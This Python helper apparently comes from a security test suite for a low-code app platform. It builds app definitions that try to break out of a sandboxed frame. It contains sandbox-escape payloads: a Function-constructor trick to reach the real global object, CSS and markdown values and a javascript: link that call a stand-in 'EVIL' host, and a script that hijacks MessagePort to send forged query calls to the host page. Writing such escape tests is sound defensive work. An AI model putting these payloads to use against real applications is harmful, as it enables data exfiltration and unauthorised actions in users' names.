"""Apps made to break out of their frame: what they try, by name."""

import tomllib
from pathlib import Path
from typing import Any

TRIES = tomllib.loads(Path(__file__).with_suffix(".toml").read_text(encoding="utf-8"))
SCRIPTS, HTML, PAGE, JOURNEYS = (TRIES[kind] for kind in ("scripts", "html", "page", "journeys"))

# Every script gets `world`, the worker's real global object, which the usual trick with a constructor gives away.
WORLD = "const world = (() => {}).constructor('return this')();\n"


# What a script finds: nothing of it leads out, but it must not hold the link's token either.
LISTED = "return JSON.stringify([globals, constants, world.performance.getEntries().map(entry => entry.name)])"


STYLES = ["red;background:url(EVIL/1)", "url(EVIL/2)", "var(--x, url(EVIL/3))", "image-set('EVIL/4' 1x)"]


# Waits for the browser to say that its policy refused something.
REFUSED = """const REFUSED = new Promise((ok, no) =>
  document.addEventListener('securitypolicyviolation', event => no(event.effectiveDirective)));
REFUSED.catch(() => 0);"""


# Takes the frame's port to its host the next time that something is sent, and talks to the host in the frame's name.
FORGE = """async ([messages, answered]) => {
  const port = await new Promise(ok => {
    const send = MessagePort.prototype.postMessage;
    MessagePort.prototype.postMessage = function (...given) {
      if (given[0] && given[0].type === 'pong') { MessagePort.prototype.postMessage = send; ok(this); }
      return send.apply(this, given);
    };
  });
  const answers = {};
  port.addEventListener('message', ({ data }) => {
    if (data.type === 'reply' && data.call < -1000) {
      const json = data.json && JSON.parse(new TextDecoder().decode(data.json));
      answers[data.call] = data.error ?? json ?? data.value;
    }
    if (-9999 in answers && Object.keys(answers).length > answered) port.dispatchEvent(new Event('done'));
  });
  const done = new Promise(ok => port.addEventListener('done', ok));
  for (const message of messages) port.postMessage(message);
  const request = { name: 'run-query', query: 'last', run: 'last', values: [] };
  port.postMessage({ type: 'call', call: -9999, request });
  await done;
  return answers;
}"""


def app(evil: str, host: str, *, udp: str, hosts: list[str]) -> dict[str, Any]:
    """Return the definition of an app that tries all of it as soon as it is opened."""

    def aimed(text: str) -> str:
        return aim(text, evil, host).replace("UDP", udp)

    queries = [script(f"s{at}", WORLD + aimed(code)) for at, code in enumerate(SCRIPTS.values())]
    queries.append(script("listed", WORLD + LISTED))
    shown = [text(query["name"], answer(query["name"])) for query in queries]
    html = [component(f"h{at}", "Html", rawHtml=aimed(code)) for at, code in enumerate(HTML.values())]
    look = [text(f"l{at}", "x", backgroundColor=aimed(style)) for at, style in enumerate(STYLES)]
    look += [
        component("picture", "Image", source=f"{evil}/component.png"),
        component("words", "Text", textFormat="markdown", text=f"![x]({evil}/markdown.png) <img src={evil}/in.png>"),
        component("anchor", "Link", linkTarget=f"javascript:fetch('{evil}/target')", linkText="A link"),
        component("icon", "Icon", icon=f"url({evil}/icon)"),
    ]
    return {
        "settings": {"allowedHosts": hosts, "canvasBackgroundColor": aimed(STYLES[0])},
        "homePage": "p",
        "pages": [{"id": "p", "name": "Out", "handle": "out", "components": placed([*shown, *html, *look])}],
        "queries": queries,
    }


def aim(text: str, evil: str, host: str) -> str:
    """Return the text with the addresses of the two servers in it."""
    return text.replace("EVIL", evil).replace("HOSTNAME", host.removeprefix("http://")).replace("HOST", host)


def attempt(code: str) -> str:
    """Return a function for the frame's page that tries something and says what came of it."""
    tried = f"return 'got: ' + await (async () => {{ {code} }})()"
    return (
        f"async () => {{ {REFUSED} try {{ {tried} }} catch (error) {{ return 'refused: ' + (error?.type ?? error) }} }}"
    )


def script(name: str, code: str) -> dict[str, Any]:
    """Return a RunJS query that runs as soon as the page is there; what it throws is its answer too."""
    caught = (
        f"try {{ return 'got: ' + await (async () => {{ {code} }})() }} catch (error) {{ return 'refused: ' + error }}"
    )
    return {"id": name, "name": name, "kind": "runjs", "options": {"code": caught, "runOnPageLoad": True}}


def answer(query: str) -> str:
    """Return the binding that shows what a script came to."""
    return f"{{{{`{query} = ${{queries.{query}.data?.length ? queries.{query}.data : 'waiting'}}`}}}}"


def component(name: str, kind: str, **props: Any) -> dict[str, Any]:
    """Return a component."""
    return {"id": name, "name": name, "type": kind, "props": props}


def text(name: str, words: str, **props: Any) -> dict[str, Any]:
    """Return a text."""
    return component(f"text_{name}", "Text", text=words, **props)


def placed(components: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Put components below each other."""
    for at, part in enumerate(components):
        part["layouts"] = {"desktop": {"top": at * 40, "left": 1, "width": 41, "height": 40}}
    return components


def rows(sources: list[dict[str, Any]]) -> dict[str, Any]:
    """Return a query of the shop that takes one value."""
    source = next(source["id"] for source in sources if source["name"] == "shop")
    sql = "SELECT id FROM orders WHERE note = {{variables.wanted}}"
    return {"id": "rows", "name": "rows", "kind": "sqlite", "source": source, "options": {"mode": "sql", "query": sql}}


def single(code: str, hosts: list[str]) -> dict[str, Any]:
    """Return an app with one script and the words it came to."""
    return {
        "settings": {"allowedHosts": hosts},
        "homePage": "p",
        "pages": [{"id": "p", "name": "One", "handle": "one", "components": placed([text("one", answer("one"))])}],
        "queries": [script("one", code)],
    }
